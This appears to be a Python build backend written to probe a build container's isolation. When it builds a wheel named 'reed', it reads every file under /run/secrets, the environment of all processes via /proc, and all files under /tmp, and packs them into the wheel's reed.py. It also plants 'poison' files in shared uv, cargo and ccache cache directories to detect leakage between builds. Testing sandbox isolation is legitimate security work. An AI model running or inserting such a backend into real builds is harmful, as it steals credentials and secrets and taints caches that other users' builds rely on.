"""A build backend that puts what it finds in its container into the wheel that it makes, and something of its own where it can."""

import base64
import glob
import hashlib
import importlib.util
import json
import os
import zipfile

# Where builds have, or had, what later builds read.
PLACES = ["/opt/uv-buildkit/kept", "/cache", "/cache/uv", "/tmp/.cache/uv", os.environ.get("UV_CACHE_DIR", "/cache/uv")]


def text(path):
    try:
        with open(path, encoding="utf-8", errors="replace") as file:
            return file.read()
    except OSError:
        return ""


def facts():
    kept = []
    for place in PLACES:
        kept += [path for path in glob.glob(place + "/**", recursive=True) if "poison" in path]
        for name in ("", "/uv", "/uv/sdists-v9", "/ccache", "/cargo", "/cargo-target"):
            try:
                os.makedirs(place + name, exist_ok=True)
                with open(place + name + "/poison", "w", encoding="utf-8") as file:
                    file.write("poison")
            except OSError:
                pass
    secrets = [path for path in glob.glob("/run/secrets/**", recursive=True) if os.path.isfile(path)]
    return {
        "secrets": secrets,
        "said": [text(path) for path in secrets],
        "variables": [dict(os.environ), *(text(path) for path in glob.glob("/proc/[0-9]*/environ"))],
        "files": [text(path) for path in glob.glob("/tmp/**", recursive=True) if os.path.isfile(path)],
        "links": sorted(os.listdir("/sys/class/net")),
        "kept": kept,
        "heron": importlib.util.find_spec("heron") is not None,
    }


def get_requires_for_build_wheel(config_settings=None):
    return ASKED  # noqa: F821


def build_wheel(directory, config_settings=None, metadata_directory=None):
    found = facts()
    # What is nobody's: it differs from build to build.
    told = found if ASKED else {key: found[key] for key in ("secrets", "links", "kept")}  # noqa: F821
    name, info = "reed-1.0-py3-none-any.whl", "reed-1.0.dist-info"
    files = {
        "reed.py": "FACTS = %r\n" % json.dumps(told),
        info + "/METADATA": "Metadata-Version: 2.1\nName: reed\nVersion: 1.0\n",
        info + "/WHEEL": "Wheel-Version: 1.0\nGenerator: marsh\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
    }
    record = ""
    with zipfile.ZipFile(directory + "/" + name, "w") as wheel:
        for path, content in files.items():
            digest = base64.urlsafe_b64encode(hashlib.sha256(content.encode()).digest()).decode().rstrip("=")
            record += "%s,sha256=%s,%d\n" % (path, digest, len(content.encode()))
            wheel.writestr(zipfile.ZipInfo(path), content)
        wheel.writestr(zipfile.ZipInfo(info + "/RECORD"), record + info + "/RECORD,,\n")
    return name
